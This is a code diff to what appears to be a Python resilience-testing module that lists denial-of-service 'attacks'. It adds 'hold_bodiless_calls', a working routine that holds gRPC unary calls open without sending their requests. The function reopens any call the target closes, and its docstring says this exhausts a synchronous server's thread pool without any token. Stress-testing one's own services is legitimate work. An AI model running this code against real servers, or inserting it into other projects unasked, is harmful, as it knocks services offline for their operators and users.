@@ -33,6 +33,7 @@ __all__ = [
     "HeldReport",
     "drip_handshakes",
     "flood_stream_plan",
+    "hold_bodiless_calls",
     "hold_watch_streams",
     "idle_http_connections",
     "split_address",
@@ -270,6 +271,71 @@ def hold_watch_streams(
     return report
 
 
+def hold_bodiless_calls(
+    address: str,
+    n: int,
+    *,
+    method: str = "/grpc.health.v1.Health/Check",
+    duration: float = 30.0,
+    reopen_after: float = 0.5,
+    stop: threading.Event | None = None,
+    started: threading.Event | None = None,
+) -> HeldReport:
+    """Hold ``n`` calls of a unary ``method`` open without ever sending their request message.
+
+    A synchronous gRPC server waits for a unary call's request on one of its pool's threads: as
+    many such calls as it has threads starved every other call, health checks included (no token
+    is needed: a refused token is told only once the request is read). A call the target ends is
+    made again ``reopen_after`` seconds later.
+
+    The report's ``closed_by_target`` counts the calls the target ended (its deadline, or to make
+    room), ``still_open`` those open when the attack ended.
+    """
+    report = HeldReport()
+    end = time.monotonic() + duration
+    never = threading.Event()
+
+    def silent() -> Iterator[bytes]:
+        never.wait()
+        yield from ()
+
+    with grpc.insecure_channel(address) as channel:
+        call = channel.stream_unary(method, request_serializer=bytes, response_deserializer=bytes)
+        held: dict[int, tuple[Any, float]] = {}
+        reopen: dict[int, float] = {}
+
+        def place(k: int) -> None:
+            held[k] = (call.future(silent(), timeout=duration + 10), time.monotonic())
+            report.opened += 1
+
+        for k in range(n):
+            place(k)
+        if started is not None:
+            started.set()
+        try:
+            while time.monotonic() < end and not (stop is not None and stop.is_set()):
+                time.sleep(0.05)
+                now = time.monotonic()
+                for k, (future, since) in list(held.items()):
+                    if future.done():
+                        del held[k]
+                        report.closed_by_target += 1
+                        report.longest_held = max(report.longest_held, now - since)
+                        reopen[k] = now + reopen_after
+                for k, when in list(reopen.items()):
+                    if when <= now:
+                        del reopen[k]
+                        place(k)
+        finally:
+            now = time.monotonic()
+            report.still_open = len(held)
+            for future, since in held.values():
+                report.longest_held = max(report.longest_held, now - since)
+                future.cancel()
+            never.set()
+    return report
+
+
 @dataclasses.dataclass
 class FloodReport:
     """What a daemon answered a stream of oversized or unwanted chunks.
@@ -352,6 +418,7 @@ def idle_http_connections(
 _ATTACKS: dict[str, Callable[..., Any]] = {
     "drip-handshakes": drip_handshakes,
     "hold-watch-streams": hold_watch_streams,
+    "hold-bodiless-calls": hold_bodiless_calls,
     "flood-stream-plan": flood_stream_plan,
     "idle-http-connections": idle_http_connections,
 }
